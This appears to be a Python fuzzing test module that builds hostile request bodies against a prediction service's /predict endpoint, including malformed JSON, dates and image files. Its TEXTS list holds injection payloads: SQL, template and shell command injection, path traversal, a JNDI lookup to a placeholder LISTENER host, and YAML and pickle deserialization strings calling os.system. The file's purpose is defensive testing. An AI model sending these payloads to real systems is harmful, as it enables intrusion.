"""Hostile bodies for row R3: what a caller may put into JSON, dates, texts, pictures and queries."""

import base64
import io
import json
import random
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from typing import Any
from urllib.parse import quote

from PIL import Image

from platform_assets.serving.answer.contract import Contract, ContractField
from tests.serving.picture_files import after_start, chunk, head, jpeg_of, png_of, segment, text_bomb

JSON = "application/json"
NUMBERS = [
    "NaN", "Infinity", "-Infinity", "1e999", "-1e999", "1e39", "3.4028235677973366e38", "5e-324", "1e-45", "1e-400",
    "-0.0", "0", "1", "0.5", "1e2", "180.0", "9007199254740993", "1" + "0" * 30, "-1" + "0" * 30, "1" * 400,
    "9" * 5000, "01", "+1", ".5", "1.", "0x10", "1_000", "1.2345678901234567890123456e-290", "1e", "--1", "1e+-2",
    '"1.5"', '"NaN"', "true", "null", "[]", "{}", "[[[[1]]]]", '""', '"x"', '{"$ne": null}', '"\\u0000"', '"\\ud800"',
]  # fmt: skip
TEXTS = [
    "", " ", "x" * 256, "x" * 257, "\x00", "a\x00b", "💥" * 256, "💥" * 257, "\u202e", "\u2028", "é", "\ufeff",
    "\ufffd", "'; DROP TABLE predictions; --", "{{7*7}}", "${7*7}", "#{7*7}", "$(touch CANARY)", "`touch CANARY`",
    "| touch CANARY", "../../../../etc/passwd", "file:///etc/passwd", "http://LISTENER/x", "\\\\LISTENER\\x",
    "%s%s%n", "{0.__class__}", "\r\nX-Evil: 1", '\n{"prediction_id": "forged"}', "\x1b[2J", "a\tb", "NaN", "null",
    "=1+1", "@SUM(1)", "<script>", "__proto__", "a" + "\u0301" * 200, "\u200b", "ﷺ" * 200, "\ud83d", "\udc00x",
    "!!python/object/apply:os.system [id]", "cposix\nsystem\n(S'touch CANARY'\ntR.",
    "gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", "jndi:ldap://LISTENER/a",
]  # fmt: skip
MOMENTS = [
    "0000-01-01T00:00:00Z", "0001-01-01T00:00:00Z", "1677-09-21T00:12:43Z", "1799-12-31T23:59:59Z",
    "1970-01-01T00:00:00Z", "2262-04-11T23:47:16.854775808Z", "9999-12-31T23:59:59.999999Z",
    "9999-12-31T23:59:59.9999999Z", "10000-01-01T00:00:00Z", "-0001-01-01T00:00:00Z", "+2013-06-01T00:00:00Z",
    "2013-02-29T00:00:00Z", "2012-02-29T00:00:00Z", "2013-02-30T00:00:00Z", "2013-13-01T00:00:00Z",
    "2013-00-01T00:00:00Z", "2013-06-00T00:00:00Z", "2013-06-30T23:59:60Z", "2013-06-30T24:00:00Z",
    "2013-06-01T00:00:00", "2013-06-01", "2013-06-01T00:00Z", "2013-06-01 00:00:00Z", "2013-06-01t00:00:00z",
    "20130601T000000Z", "2013-06-01T00:00:00+00:00", "2013-06-01T00:00:00-00:00", "2013-06-01T00:00:00+0000",
    "2013-06-01T00:00:00+00:01", "2013-06-01T00:00:00+23:59", "2013-06-01T00:00:00-23:59",
    "2013-06-01T00:00:00+24:00", "2013-06-01T00:00:00+99:99", "2013-06-01T00:00:00.Z", "2013-06-01T00:00:00," + "5Z",
    "2013-06-01T00:00:00." + "1" * 300 + "Z", "2013-06-01T00:00:00UTC", "２０１３-06-01T00:00:00Z",
    "2013-W22-6T00:00:00Z", "2013-152T00:00:00Z", "now", "P1D", "1370044800", "", " 2013-06-01T00:00:00Z",
    "2013-06-01T00:00:00Z\x00", "2013-03-10T02:30:00Z", "2013-11-03T01:30:00Z",
    "2013-06-01T00:00:00[America/New_York]",
]  # fmt: skip


@dataclass(frozen=True)
class Attack:
    """A request to `/predict`, well formed as HTTP.

    Attributes:
        name: of its kind.
        query: of the URL, for bodies that are files.
    """

    name: str
    body: bytes
    content_type: str = JSON
    query: str = ""


def bodies(contract: Contract, row: dict[str, Any], count: int, seed: int) -> Iterator[Attack]:
    """Yield hostile bodies, each kind at least once, up to a count.

    Args:
        row: one that the service answers.
    """
    draws = random.Random(seed)
    fixed = [
        *(
            Attack(f"{item.name} is {value[:20]}", with_value(row, item.name, value))
            for item in contract.fields
            for value in NUMBERS
        ),
        *_texts(contract, row),
        *_moments(contract, row),
        *_shapes(contract, row),
        *_lists(contract, row),
        *(_pictures(contract, row) if contract.image is not None else ()),
    ]
    draws.shuffle(fixed)
    yield from fixed[:count]
    good = [json.dumps(row).encode(), json.dumps([row, row, row]).encode()]
    for number in range(max(0, count - len(fixed))):
        yield Attack("damaged", damaged(draws.choice(good), draws)) if number % 4 else Attack("good", good[number % 2])


def with_value(row: dict[str, Any], name: str, value: str) -> bytes:
    """Return a row whose feature is this raw JSON."""
    changed = {**row, "features": {**row["features"], name: "@@"}}
    return json.dumps(changed).replace('"@@"', value).encode()


def damaged(body: bytes, draws: random.Random) -> bytes:
    """Return a body with one to four places overwritten, removed or repeated."""
    changed = bytearray(body)
    for _ in range(draws.randint(1, 4)):
        place, length = draws.randrange(len(changed)), draws.choice([0, 1, 1, 2, 40])
        part = (
            bytes(changed[place : place + 40])
            if draws.random() < 0.1
            else bytes(draws.choices(MARKS, k=draws.randrange(3)))
        )
        changed[place : place + length] = part
    return bytes(changed)


MARKS = b"{}[]\",:0eE+-.\\u\xff\x00 nNtf/*'\n\xc0\xed"


def _texts(contract: Contract, row: dict[str, Any]) -> Iterator[Attack]:
    names = [item.name for item in contract.categorical]
    for text in TEXTS:
        for escaped in (True, False):
            for changes in (
                {"entity": text},
                {"idempotency_key": text},
                *({"features": {**row["features"], name: text}} for name in names),
            ):
                body = json.dumps({**row, **changes}, ensure_ascii=escaped).encode("utf-8", "surrogatepass")
                yield Attack(f"text {text[:20]!r}", body)


def _moments(contract: Contract, row: dict[str, Any]) -> Iterator[Attack]:
    for name, (begins, ends) in zip(("service_time", "asked_at"), contract.moments, strict=True):
        near = [edge + timedelta(microseconds=step) for edge in (begins, ends) for step in (-1, 0, 1)]
        texts = [*MOMENTS, *(moment.isoformat().replace("+00:00", "Z") for moment in near)]
        yield from (Attack(f"{name} {text[:30]}", json.dumps({**row, name: text}).encode()) for text in texts)
        for value in (5, 1370044800.5, True, None, [], {}, ["2013-06-01T00:00:00Z"]):
            yield Attack(f"{name} {value}", json.dumps({**row, name: value}).encode())


def _shapes(contract: Contract, row: dict[str, Any]) -> Iterator[Attack]:
    text = json.dumps(row)
    for name in row:
        yield Attack("missing", json.dumps({key: value for key, value in row.items() if key != name}).encode())
        yield Attack("twice", text.replace(f'"{name}"', f'"{name}": 1, "{name}"', 1).encode())
        yield Attack(
            "twice, escaped", text.replace(f'"{name}"', f'"\\u{ord(name[0]):04x}{name[1:]}": 1, "{name}"', 1).encode()
        )
    for name in ("__proto__", "constructor", "__class__", "features ", "Entity", "", "x" * 5000, "a\x00", "\ud800"):
        yield Attack("unknown name", json.dumps({**row, name: 1}).encode())
        yield Attack("unknown feature", json.dumps({**row, "features": {**row["features"], name: 1}}).encode())
    for depth in (10, 99, 500, 1_000, 5_000, 100_000):
        yield from (Attack("deep", begin * depth) for begin in (b"[", b'{"a":', b'[{"features":', b'{"features":['))
        yield Attack("deep", text.encode()[:-1] + b', "x": ' + b"[" * depth + b"]" * depth + b"}")
    plain = text.encode()
    for body in (
        b"", b" ", b"null", b"1", b'"x"', b"true", b"{", b"}", b"nul", b"\x00", b"\xff\xfe", b"\xef\xbb\xbf" + plain,
        plain + b"x",
    ):  # fmt: skip
        yield Attack("not a row", body)
    for body in (
        plain + plain,
        plain[:-1],
        text.encode("utf-16"),
        text.encode("utf-32"),
        text.encode("utf-16-le"),
        plain + b"\x00",
    ):
        yield Attack("not JSON", body)
    for bad in (b"\xc0\xaf", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\xf4\x90\x80\x80", b"\xe2\x82", b"\x80"):
        yield Attack("bad UTF-8", plain.replace(b'"entity": "', b'"entity": "' + bad, 1))
    for body in (
        text.replace(": ", ":/**/", 1), text.replace('"', "'"), text[:-1] + ",}", "//x\n" + text, f"({text})",
        f"while(1);{text}",
    ):  # fmt: skip
        yield Attack("nearly JSON", body.encode())
    most = contract.max_body_bytes
    for size in (most - len(plain), most, most + 1, 2 * most):
        yield Attack("blanks", b" " * max(0, size) + plain)
        yield Attack("a long text", b'{"entity": "' + b"a" * size + b'"}')
    for fill in (b"[],", b"{},", b"1,", b'"",', b"1.2345678901234567890123456e-290,", b'{"a":1},', b"\\\\"):
        yield Attack("a row of fillings", b'{"entity": [' + fill * (most // len(fill) - 20) + b"1]}")
        yield Attack("a list of fillings", b"[" + fill * (most // len(fill) - 20) + b"1]")
        yield Attack("a short row of fillings", b'{"entity": [' + fill * (20_000 // len(fill)) + b"1]}")


def _lists(contract: Contract, row: dict[str, Any]) -> Iterator[Attack]:
    most = contract.max_rows
    for count in (0, 1, 2, most - 1, most, most + 1, 4 * most):
        yield Attack(f"{count} rows", json.dumps([row] * count).encode())
    bad = {**row, "service_time": "noon"}
    for place in (0, 1, most // 2, most - 1):
        rows = [row] * most
        rows[place] = bad
        yield Attack("one bad row", json.dumps(rows).encode())
        yield Attack("a list in a list", json.dumps([*rows[:place], [row], *rows[place + 1 :]]).encode())
        yield Attack("NaN in a list", json.dumps(rows).replace('"noon"', "NaN").encode())
    yield Attack("all bad", json.dumps([bad] * most).encode())
    for key, other in (("a", "a"), ("a", "b")):
        rows = [{**row, "idempotency_key": "same", "entity": name} for name in (key, other)]
        yield Attack("a key twice in a list", json.dumps(rows).encode())
        yield from (Attack("a key again", json.dumps(item).encode()) for item in rows)
    yield Attack("2 million zeros", b"[" + b"0," * 450_000 + b"0]")


def _pictures(contract: Contract, row: dict[str, Any]) -> Iterator[Attack]:
    image = contract.image
    assert image is not None
    query = "&".join(f"{name}={quote(row[name])}" for name in ("entity", "service_time", "asked_at"))
    for name, data in _files(image).items():
        encoded = base64.b64encode(data).decode()
        yield Attack(f"picture {name}", with_value(row, image.name, json.dumps(encoded)))
        for kind in ("image/png", "image/jpeg", "image/jpg", JSON, "image/gif", "application/octet-stream"):
            yield Attack(f"file {name}", data, kind, query)
        for form in (
            encoded + "\n",
            encoded.rstrip("="),
            f"data:image/png;base64,{encoded}",
            encoded[:-7],
            encoded.replace("/", "_"),
        ):
            yield Attack("odd base64", with_value(row, image.name, json.dumps(form)))
    good = _files(image)["good"]
    for changed in (
        "", "entity=a", f"{query}&entity=b", f"{query}&x=1", query.replace("=", "=%ff", 1),
        f"{query}&idempotency_key=", "&" * 5000,
    ):  # fmt: skip
        yield Attack("query", good, "image/png", changed)
        yield Attack("query next to JSON", json.dumps(row).encode(), JSON, changed)
    for text in TEXTS:
        yield Attack(
            "text in a query",
            good,
            "image/png",
            query.replace("entity=", "entity=" + quote(text.encode("utf-8", "surrogatepass")), 1),
        )
    for moment in MOMENTS:
        changed = f"entity=a&service_time={quote(moment)}&asked_at={quote(row['asked_at'])}"
        yield Attack("moment in a query", good, "image/png", changed)
    height, width = image.sized
    for level in NUMBERS:
        lines = [[0] * width for _ in range(height)]
        yield Attack("level", with_value(row, image.name, json.dumps(lines).replace("0", level, 1)))
    for rows, columns in ((height, width - 1), (height - 1, width), (1, height * width), (0, 0), (height, 5_000)):
        yield Attack("size of lists", with_value(row, image.name, json.dumps([[0] * columns for _ in range(rows)])))


def _files(item: ContractField) -> dict[str, bytes]:
    """Return picture files, most of them not acceptable."""
    height, width = item.sized
    grey = Image.effect_noise((width, height), 80)

    def saved(picture: Image.Image, form: str, **options: Any) -> bytes:
        buffer = io.BytesIO()
        picture.save(buffer, form, **options)
        return buffer.getvalue()

    png, jpeg = saved(grey, "PNG"), saved(grey, "JPEG")
    plain = {
        "good": png,
        "JPEG": jpeg,
        "progressive": saved(grey, "JPEG", progressive=True),
        "colours": saved(grey.convert("RGBA"), "PNG"),
        "palette": saved(grey.convert("P"), "PNG"),
        "one bit": saved(grey.convert("1"), "PNG"),
        "CMYK": saved(grey.convert("CMYK"), "JPEG"),
        "16 bits": saved(Image.new("I;16", (width, height)), "PNG"),
        "other size": saved(grey.resize((width + 1, height)), "PNG"),
        "cut": png[:-20],
        "followed by more": png + b"PK\x03\x04" + b"x" * 1000,
        "other checksum": png[:-1] + b"\x00",
        "empty": b"",
        "start only": png[:8],
        "claims to be huge": png_of(head(65_535, 65_535), chunk(b"IDAT", b"\x78\x9c\x03\x00\x00\x00\x00\x01")),
        "claims to be nothing": png_of(head(0, 0)),
        "packed text": png[:-12] + text_bomb(b"zTXt") + png[-12:],
        "packed profile": png[:33] + text_bomb(b"iCCP") + png[33:],
        "many chunks": png[:33] + chunk(b"tEXt", b"a\0b") * 5_000 + png[33:],
        "JPEG claims to be huge": jpeg_of(65_500, 65_500),
        "JPEG with EXIF": after_start(segment(0xE1, b"Exif\0\0" + b"\xff" * 30_000)),
        "SVG": b"<svg xmlns='http://www.w3.org/2000/svg'><image href='http://LISTENER/x'/></svg>",
    }
    others = {form: saved(grey, form) for form in ("GIF", "BMP", "TIFF", "WEBP", "PPM", "PDF", "ICO")}
    return {**plain, **others}
